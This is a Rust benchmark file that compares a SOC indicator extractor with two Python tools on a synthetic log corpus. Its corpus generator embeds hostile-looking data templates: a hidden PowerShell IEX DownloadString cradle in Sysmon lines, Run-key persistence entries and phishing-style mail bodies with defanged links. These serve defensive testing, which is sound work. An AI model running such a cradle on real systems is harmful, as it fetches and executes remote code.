//! Indicator extraction on a large SOC text corpus: `soc_tools::extract::extract` beside the
//! PyPI extractors `iocextract` and `ioc-finder`, on the same file.
//!
//! Run with `cargo xtask bench extract`, which provides the peers. Directly:
//! `cargo bench -p soc-tools --bench extract -- --mb 50 --rounds 3 --python <python>
//! --peer bench/peers/ioc_extract.py`. Without `--python`, only the Rust side runs.
//!
//! The corpus (`--mb` MB of syslog and Sysmon-like lines, firewall and proxy logs, mail bodies
//! with defanged URLs and addresses, public and private IPs, hashes, CVE ids, registry keys,
//! file names and plain prose) is generated once into the target directory, deterministically.
//! Each round runs every extractor once, interleaved; each reads the file, extracts every
//! indicator and counts the distinct ones. The figure is MB/s of the whole (read + extract +
//! count); the counts are a sanity check, not a score (the tools disagree on what an indicator
//! is: file names, registry keys, private IPs...).

// The report is this program's output.
#![allow(clippy::print_stdout)]

mod common;

use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Instant;

use common::{arg, benching, median, Rng};
use serde_json::{json, Value};

/// The peers: the name the peer script takes, and the JSON key.
const PEERS: [(&str, &str); 2] = [("iocextract", "iocextract"), ("ioc-finder", "ioc_finder")];

fn main() {
    let full = benching();
    let mb: u64 = arg("--mb").unwrap_or(if full { 50 } else { 1 });
    let rounds: usize = arg("--rounds").unwrap_or(if full { 3 } else { 1 });
    let python: Option<String> = arg("--python");
    let peer: String = arg("--peer").unwrap_or_else(|| "bench/peers/ioc_extract.py".into());
    let out: Option<String> = arg("--out");

    let corpus = corpus_file(mb);
    let bytes = std::fs::metadata(&corpus).expect("corpus").len();
    let mut ours = Vec::new();
    let mut ours_count = 0;
    let mut theirs: Vec<(Vec<f64>, u64)> = vec![(Vec::new(), 0); PEERS.len()];
    for round in 1..=rounds {
        let (s, n) = ours_run(&corpus);
        eprintln!("round {round}: soc_tools::extract {s:.2} s, {n} indicators");
        ours.push(s);
        ours_count = n;
        if let Some(py) = &python {
            for (i, (tool, _)) in PEERS.iter().enumerate() {
                let (s, n) = peer_run(py, &peer, tool, &corpus);
                eprintln!("round {round}: {tool} {s:.2} s, {n} indicators");
                theirs[i].0.push(s);
                theirs[i].1 = n;
            }
        }
    }
    let mbps = |s: f64| bytes as f64 / 1e6 / s;
    println!(
        "extract: {:.1} MB corpus, {rounds} rounds, medians",
        bytes as f64 / 1e6
    );
    if let Some(s) = median(&ours) {
        println!(
            "  soc_tools::extract  {:>8.2} MB/s  {ours_count} indicators",
            mbps(s)
        );
    }
    for ((tool, _), (secs, n)) in PEERS.iter().zip(&theirs) {
        if let Some(s) = median(secs) {
            println!("  {tool:<18}  {:>8.2} MB/s  {n} indicators", mbps(s));
        }
    }
    if let Some(out) = out {
        let mut report = json!({
            "benchmark": "extract",
            "bytes": bytes,
            "rounds": rounds,
            "ours": {"seconds": ours, "seconds_median": median(&ours), "indicators": ours_count},
        });
        for ((_, key), (secs, n)) in PEERS.iter().zip(&theirs) {
            report[*key] =
                json!({"seconds": secs, "seconds_median": median(secs), "indicators": n});
        }
        std::fs::write(out, serde_json::to_vec_pretty(&report).expect("json"))
            .expect("write the report");
    }
}

/// Reads the file, extracts, counts: seconds and distinct indicators.
fn ours_run(corpus: &Path) -> (f64, u64) {
    let started = Instant::now();
    let text = std::fs::read_to_string(corpus).expect("read the corpus");
    let found = soc_tools::extract::extract(&text);
    let n = found.len() as u64;
    let seconds = started.elapsed().as_secs_f64();
    assert!(n > 0, "the corpus holds indicators");
    (seconds, n)
}

fn peer_run(python: &str, peer: &str, tool: &str, corpus: &Path) -> (f64, u64) {
    let out = Command::new(python)
        .arg(peer)
        .arg(tool)
        .arg(corpus)
        .output()
        .expect("run the Python peer");
    assert!(
        out.status.success(),
        "{tool} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).expect("the peer prints one JSON line");
    (
        v["seconds"].as_f64().expect("seconds"),
        v["indicators"].as_u64().expect("indicators"),
    )
}

/// The corpus, written once per size.
fn corpus_file(mb: u64) -> PathBuf {
    let path = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("soc-corpus-v1-{mb}MB.txt"));
    if path.exists() {
        return path;
    }
    let started = Instant::now();
    let tmp = path.with_extension("partial");
    let mut w = BufWriter::with_capacity(1 << 20, std::fs::File::create(&tmp).expect("create"));
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ mb);
    // Indicators recur in real logs: a pool per kind, drawn from with a skew, and fresh ones.
    let ips: Vec<String> = (0..5_000).map(|_| rng.public_ip()).collect();
    let domains: Vec<String> = (0..5_000).map(|_| rng.domain()).collect();
    let target = mb * 1_000_000;
    let mut written = 0u64;
    let mut n = 0u64;
    while written < target {
        let record = record(&mut rng, n, &ips, &domains);
        w.write_all(record.as_bytes()).expect("write");
        written += record.len() as u64;
        n += 1;
    }
    w.flush().expect("flush");
    drop(w);
    std::fs::rename(&tmp, &path).expect("rename the corpus");
    eprintln!(
        "generated {} in {:.1} s",
        path.display(),
        started.elapsed().as_secs_f64()
    );
    path
}

fn pooled(rng: &mut Rng, pool: &[String], fresh: impl FnOnce(&mut Rng) -> String) -> String {
    // Half from the first tenth of the pool (popular), some fresh, the rest anywhere.
    match rng.below(10) {
        0..=4 => pool[rng.below(pool.len() as u64 / 10) as usize].clone(),
        5 => fresh(rng),
        _ => rng.pick(pool).clone(),
    }
}

/// One record: a log line, a mail body or a paragraph.
fn record(rng: &mut Rng, n: u64, ips: &[String], domains: &[String]) -> String {
    const HOSTS: &[&str] = &[
        "fin-ws-0231",
        "hr-lt-0042",
        "dc01",
        "mail-gw-1",
        "web-prod-3",
        "vpn-edge-2",
    ];
    const USERS: &[&str] = &["jdoe", "asmith", "svc_backup", "administrator", "mlopez"];
    const PROSE: &[&str] = &[
        "The analyst reviewed the timeline and found no lateral movement after containment.",
        "Escalated to tier 2 because the host belongs to the finance department.",
        "The user confirmed they did not open the attachment; the mailbox was purged.",
        "False positive: the scanner is the vulnerability management appliance.",
        "Containment was applied at 14:02 and the EDR isolated the workstation.",
        "We recommend blocking the sender domain and resetting the user's credentials.",
    ];
    const FILES: &[&str] = &[
        "invoice_2291.docm",
        "update.exe",
        "payload.dll",
        "setup_x64.msi",
        "run.ps1",
        "report.pdf.lnk",
        "stage2.bin",
        "loader.vbs",
    ];
    let ts = format!(
        "Nov {:2} {:02}:{:02}:{:02}",
        1 + n % 28,
        (n / 3600) % 24,
        (n / 60) % 60,
        n % 60
    );
    let host = *rng.pick(HOSTS);
    let user = *rng.pick(USERS);
    let ip = pooled(rng, ips, Rng::public_ip);
    let domain = pooled(rng, domains, Rng::domain);
    match rng.below(20) {
        0..=3 => format!(
            "{ts} {host} sshd[{}]: Failed password for {user} from {ip} port {} ssh2\n",
            1000 + rng.below(60000),
            1024 + rng.below(60000)
        ),
        4..=6 => format!(
            "{ts} {host} Microsoft-Windows-Sysmon[{}]: EventID=1 UtcTime=2026-11-20 Image=C:\\Users\\{user}\\AppData\\Local\\Temp\\{} CommandLine=\"powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://{domain}/{}')\" Hashes=MD5={},SHA256={} ParentImage=C:\\Windows\\explorer.exe User=CORP\\{user}\n",
            4000 + rng.below(2000),
            rng.pick(FILES),
            rng.word(),
            rng.hex(32),
            rng.hex(64)
        ),
        7..=8 => format!(
            "{ts} {host} Microsoft-Windows-Sysmon[{}]: EventID=3 Protocol=tcp SourceIp={} SourcePort={} DestinationIp={ip} DestinationPort=443 DestinationHostname={domain} Image=C:\\Windows\\System32\\rundll32.exe\n",
            4000 + rng.below(2000),
            rng.private_ip(),
            49152 + rng.below(16000)
        ),
        9 => format!(
            "{ts} {host} Microsoft-Windows-Sysmon[{}]: EventID=13 EventType=SetValue TargetObject=HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{} Details=C:\\ProgramData\\{} User=CORP\\{user}\n",
            4000 + rng.below(2000),
            rng.word(),
            rng.pick(FILES)
        ),
        10..=12 => format!(
            "{ts} fw01 kernel: action={} proto=TCP src={} dst={ip} sport={} dport={} bytes={}\n",
            if rng.below(3) == 0 { "blocked" } else { "allowed" },
            rng.private_ip(),
            1024 + rng.below(60000),
            rng.pick(&[80u16, 443, 445, 3389, 8080]),
            rng.below(100_000)
        ),
        13..=14 => format!(
            "{ts} proxy01 squid: {} TCP_MISS/200 {} GET https://{domain}/{}/{} - HIER_DIRECT/{ip} text/html user={user}\n",
            rng.private_ip(),
            rng.below(50_000),
            rng.word(),
            rng.pick(FILES)
        ),
        15..=16 => {
            let sender = rng.domain();
            format!(
                "From: billing@{sender}\nTo: {user}@corp.example\nSubject: Overdue invoice {n}\n\nHello,\n\nPlease review the overdue invoice at hxxp://{}/{}/view.php?id={n} before Friday.\nIf the link does not work, reply to accounts[@]{} or call us.\nAttachment: {} (sha1 {})\nOur server {} will be down for maintenance on Sunday.\n\nRegards,\nAccounts team\n\n",
                domain.replace('.', "[.]"),
                rng.word(),
                sender.replace('.', "[.]"),
                rng.pick(FILES),
                rng.hex(40),
                ip.replacen('.', "[.]", 3),
            )
        }
        17 => format!(
            "Advisory: {} is exploited in the wild (CVE-{}-{}); patch {host} and watch for callbacks to {domain} and {ip}.\n",
            rng.pick(&["Ivanti Connect Secure", "PAN-OS GlobalProtect", "Exchange", "Confluence"]),
            2019 + rng.below(8),
            1000 + rng.below(50_000)
        ),
        _ => format!("{} {}\n", rng.pick(PROSE), rng.pick(PROSE)),
    }
}
